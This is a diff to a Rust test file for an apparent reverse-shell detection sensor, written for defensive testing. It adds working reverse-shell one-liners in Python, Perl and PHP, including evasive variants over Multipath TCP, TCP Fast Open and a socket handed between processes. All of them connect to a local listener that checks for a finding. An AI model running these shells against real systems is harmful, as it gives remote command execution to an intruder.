@@ -1,6 +1,8 @@
 //! Reverse shells of scripting languages that put the connection on the shell's streams.
 
+use anyhow::Result;
 use sensor_tests::{
+    lab::{Lab, REVERSE},
     peer::{Listener, V4},
     suite::Case,
 };
@@ -105,6 +107,36 @@ exec "/bin/bash","--norc","-i"'"#,
     ),
 ];
 
+/// Interpreters at whose prompt the peer types, and what makes them run `id`.
+const PROMPTS: [(&str, &[&str], &str, &str); 3] = [
+    (
+        "python",
+        &["python3"],
+        "exec /usr/bin/python3 -i <&5 >&5 2>&5",
+        "import os\nos.system('id')\n",
+    ),
+    (
+        "perl_debugger",
+        &["perl"],
+        "perl -de 0 <&5 >&5 2>&5; true",
+        "system('id')\n",
+    ),
+    ("php", &["php"], "exec php -a <&5 >&5 2>&5", "system('id');\n"),
+];
+
+fn prompt(lab: &Lab<'_>, script: &str, typed: &str) -> Result<()> {
+    let listener = Listener::tcp(V4)?;
+    let script = format!("exec 5<>/dev/tcp/127.0.0.1/$P; {script}");
+    lab.bash(&script, &[("P", &listener.port()?.to_string())])?;
+    let mut peer = listener.accept()?;
+    peer.send(typed)?;
+    peer.read_until("uid=")?;
+    let finding = lab.finding(peer.ends(), REVERSE)?;
+    drop(peer);
+    lab.ended(&finding)?;
+    Ok(())
+}
+
 pub fn cases() -> Vec<Case> {
     let mut cases = Vec::new();
     let mut add = |tools: &'static [&'static str], language: &str, scripts: &[(&str, &'static str)]| {
@@ -125,6 +157,36 @@ s=socket.socket(socket.AF_INET6); s.connect((os.environ["H"],int(os.environ["P"]
 subprocess.call(["/bin/sh","-i"],stdin=s,stdout=s,stderr=s)'"#;
         lab.reverse_to(&Listener::tcp(V4)?, "::ffff:127.0.0.1", script)
     }));
+    // Multipath TCP: the connection has a socket of its own above those of its paths.
+    cases.push(Case::new("python::multipath_tcp", &["python3"], |lab| {
+        let script = r#"/usr/bin/python3 -c 'import socket,os,subprocess
+s=socket.socket(socket.AF_INET,socket.SOCK_STREAM,262); s.connect((os.environ["H"],int(os.environ["P"])))
+subprocess.call(["/bin/sh"],stdin=s,stdout=s,stderr=s)'"#;
+        lab.reverse(script)
+    }));
+    // No connect(2): the first data carries the connection's request.
+    cases.push(Case::new("python::fast_open", &["python3"], |lab| {
+        let script = r#"/usr/bin/python3 -c 'import socket,os,subprocess
+s=socket.socket(); s.sendto(b"\n",socket.MSG_FASTOPEN,(os.environ["H"],int(os.environ["P"])))
+subprocess.call(["/bin/sh"],stdin=s,stdout=s,stderr=s)'"#;
+        lab.reverse(script)
+    }));
+    // One process connects, another one, to whom the connection is handed, becomes the shell.
+    cases.push(Case::new("python::connection_handed_over", &["python3"], |lab| {
+        let script = r#"exec /usr/bin/python3 -c 'import socket,os
+a,b=socket.socketpair()
+if os.fork()==0:
+    s=socket.create_connection((os.environ["H"],int(os.environ["P"])))
+    socket.send_fds(a,[b"x"],[s.fileno()]); os._exit(0)
+a.close(); _,fds,_,_=socket.recv_fds(b,1,1); os.wait()
+[os.dup2(fds[0],fd) for fd in (0,1,2)]; os.execl("/bin/sh","sh")'"#;
+        lab.reverse(script)
+    }));
+    for (name, tools, script, typed) in PROMPTS {
+        cases.push(Case::new(format!("prompt::{name}"), tools, move |lab| {
+            prompt(lab, script, typed)
+        }));
+    }
     cases.push(Case::new("python::udp", &["python3"], |lab| {
         let script = r#"exec /usr/bin/python3 -c 'import socket,os
 s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.connect((os.environ["H"],int(os.environ["P"])))
